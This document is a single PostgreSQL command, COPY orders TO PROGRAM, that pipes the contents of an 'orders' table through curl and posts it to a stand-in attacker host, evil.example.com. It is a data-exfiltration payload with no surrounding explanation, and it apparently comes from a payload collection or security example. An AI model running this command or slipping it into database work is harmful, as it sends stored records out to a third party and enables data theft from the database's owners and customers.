COPY orders TO PROGRAM 'curl -d @- http://evil.example.com'
